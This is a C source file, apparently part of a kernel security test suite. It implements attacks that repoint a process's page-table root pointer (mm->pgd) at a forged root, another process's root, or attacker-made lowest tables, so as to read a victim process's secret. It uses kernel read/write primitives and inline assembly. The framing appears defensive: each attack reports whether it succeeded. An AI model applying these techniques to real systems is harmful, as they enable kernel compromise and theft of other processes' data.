// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of the root that a CPU loads. No page table is changed here,
 * but the pointer to one: mm->pgd is made to point at a copy in ordinary memory,
 * with one entry more; at the root of another process; and at a lowest table of
 * the attacker's own, which has the key and so passes for a table.
 */
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"
#include "list.h"
#include "looker.h"
#include "objects.h"

#define USER_PART	0x32
#define USER_ENTRY_5	1	/* with five levels an entry covers 256 TiB */
#define ROOT_PART	0x59
#define ROOT_TRIES	16	/* tables, of which two are neighbours */
#define START_TIME	300000	/* us */
#define LOOK_TIME	20000	/* ms */

static int to_child[2], to_parent[2];

/* Another address space on this CPU, to be switched to and back. */
static void start_other_mm(void)
{
	char byte;

	stay_on_cpu(0);
	if (pipe(to_child) || pipe(to_parent) || fork())
		return;
	close(to_child[1]);
	while (read(to_child[0], &byte, 1) == 1)
		if (write(to_parent[1], &byte, 1) != 1)
			break;
	_exit(0);
}

static bool switch_mm(void)
{
	char byte = 0;

	return write(to_child[1], &byte, 1) == 1 && read(to_parent[0], &byte, 1) == 1;
}

/* Both halves: with page-table isolation the second one is what users get. */
static uint64_t copy_pgd(uint64_t pgd, int index, uint64_t entry)
{
	bool isolated = !(pgd & PAGE_SIZE);
	char half[PAGE_SIZE];
	uint64_t copy;
	int i;

	if (corrupt_command("alloc order=1"))
		return 0;
	copy = corrupt_answer("address");
	for (i = 0; i < 1 + isolated; i++) {
		kread(pgd + i * PAGE_SIZE, half, PAGE_SIZE);
		((uint64_t *)half)[index] = entry;
		kwrite(copy + i * PAGE_SIZE, half, PAGE_SIZE);
	}
	return copy;
}

static int forged_index(void)
{
	return top_level() == LEVEL_PGD ? USER_ENTRY_5 : user_room(USER_PART) / top_level_size();
}

static uint64_t forged_entry(void)
{
	return forge_tables((victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW);
}

uint64_t forge_root(uint64_t pgd, uint64_t *addr)
{
	int index = forged_index();

	*addr = index * top_level_size();
	return copy_pgd(pgd, index, forged_entry());
}

/* For as long as it takes to look at the first address of an entry of it. */
static enum outcome look_by_root(const struct task *task, uint64_t root, int index)
{
	uint64_t pointer = find_word(task->mm, MM_SIZE, task->pgd);
	char text[64] = "";
	int err;

	if (!pointer || !root)
		return broken("mm->pgd not found");
	err = kwrite64(pointer, root);
	if (!err && switch_mm())
		snprintf(text, sizeof(text), "%s", (char *)(index * top_level_size()));
	if (!err)
		kwrite64(pointer, task->pgd);
	switch_mm();
	return judge_secret(text, err);
}

enum outcome mm_pgd_pointer(void)
{
	int index = forged_index();
	struct task task;

	start_other_mm();
	if (ktask(0, &task))
		return broken("no mm found");
	return look_by_root(&task, copy_pgd(task.pgd, index, forged_entry()), index);
}

/*
 * Naps and tries to write down what is at an address, for ever. Registers only:
 * on the victim's tables the stack is the victim's.
 */
static void __attribute__((noreturn)) look_again_and_again(int fd, uint64_t addr)
{
	static const struct timespec nap = { 0, 50000000 };
#ifdef __x86_64__
	register uint64_t file asm("r12") = fd;
	register uint64_t what asm("r13") = addr;
	register const void *how_long asm("r14") = &nap;

	asm volatile("1: mov %2, %%rdi; xor %%esi, %%esi; mov %3, %%eax; syscall\n"
		     "mov %0, %%rdi; mov %1, %%rsi; mov %4, %%edx; mov %5, %%eax; syscall\n"
		     "jmp 1b"
		     : : "r" (file), "r" (what), "r" (how_long), "i" (SYS_nanosleep),
		     "i" (SECRET_SIZE), "i" (SYS_write)
		     : "rax", "rcx", "rdx", "rsi", "rdi", "r11", "memory");
#else
	register uint64_t file asm("x19") = fd;
	register uint64_t what asm("x20") = addr;
	register const void *how_long asm("x21") = &nap;

	asm volatile("1: mov x0, %2; mov x1, xzr; mov x8, %3; svc #0\n"
		     "mov x0, %0; mov x1, %1; mov x2, %4; mov x8, %5; svc #0\n"
		     "b 1b"
		     : : "r" (file), "r" (what), "r" (how_long), "i" (SYS_nanosleep),
		     "i" (SECRET_SIZE), "i" (SYS_write)
		     : "x0", "x1", "x2", "x8", "memory");
#endif
	__builtin_unreachable();
}

pid_t looker_start(int *from)
{
	int fds[2];
	pid_t pid;

	if (pipe(fds))
		return -1;
	pid = fork();
	if (!pid)
		look_again_and_again(fds[1], victim_secret());
	close(fds[1]);	/* its end is seen if it is killed */
	*from = fds[0];
	usleep(START_TIME);	/* until it needs its stack no more */
	return pid;
}

/* The code and the stack are where they are in the victim: it is a sibling. */
enum outcome mm_pgd_other(void)
{
	struct task victim, looker;
	char text[SECRET_SIZE] = "";
	struct pollfd input = { .events = POLLIN };
	uint64_t pointer;
	pid_t pid;
	int err;

	stay_on_cpu(0);
	pid = looker_start(&input.fd);
	if (pid < 0 || ktask(pid, &looker) || ktask(victim_pid(), &victim))
		return broken("no mm found");
	pointer = find_word(looker.mm, MM_SIZE, looker.pgd);
	if (!pointer)
		return broken("mm->pgd not found");
	err = kwrite64(pointer, victim.pgd);
	if (poll(&input, 1, LOOK_TIME) == 1 && read(input.fd, text, sizeof(text)) < 0)
		err = -1;
	kwrite64(pointer, looker.pgd);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return judge_secret(text, err);
}

/* Pages are the next tables here: one for each entry that the root has. */
static void copy_next_tables(char *pages, uint64_t half, int index, uint64_t entry)
{
	uint64_t root[PAGE_SIZE / sizeof(uint64_t)];
	size_t i;

	kread(half, root, sizeof(root));
	root[index] = entry;
	for (i = 0; i < table_entries(); i++)
		if (root[i])
			kread(direct_map_base() + (root[i] & PTE_PFN_MASK),
			      pages + i * PAGE_SIZE, PAGE_SIZE);
}

/* Two lowest tables of ours that lie as the halves of a root do, or one. */
static int find_halves(char *region, bool isolated, uint64_t *root)
{
	uint64_t table[ROOT_TRIES];
	struct slot slot;
	int i, n;

	for (i = 0; i < ROOT_TRIES; i++) {
		region[i * PMD_SIZE] = 0;
		if (kwalk((uint64_t)region + i * PMD_SIZE, LEVEL_PTE, 0, &slot))
			return -1;
		table[i] = slot.slot & -PAGE_SIZE;
	}
	for (i = 0; i < ROOT_TRIES; i++)
		for (n = 0; n < ROOT_TRIES; n++)
			if (!(table[i] & PAGE_SIZE) && (!isolated || table[n] == table[i] + PAGE_SIZE)) {
				*root = table[i];
				return i * ROOT_TRIES + n;
			}
	return -1;
}

enum outcome mm_pgd_low_table(void)
{
	char *region = (char *)sparse_region(user_room(ROOT_PART), ROOT_TRIES,
					     PROT_READ | PROT_WRITE | PROT_EXEC);
	uint64_t entry = forged_entry(), root;
	int index = forged_index(), halves;
	bool isolated = cpu_has("pti");
	struct task task;

	start_other_mm();
	if (!region || ktask(0, &task))
		return broken("no room, or no mm found");
	halves = find_halves(region, isolated, &root);
	if (halves < 0)
		return broken("no two tables that lie side by side");
	copy_next_tables(region + halves / ROOT_TRIES * PMD_SIZE, task.pgd, index, entry);
	if (isolated)
		copy_next_tables(region + halves % ROOT_TRIES * PMD_SIZE, task.pgd + PAGE_SIZE,
				 index, entry);
	return look_by_root(&task, root, index);
}
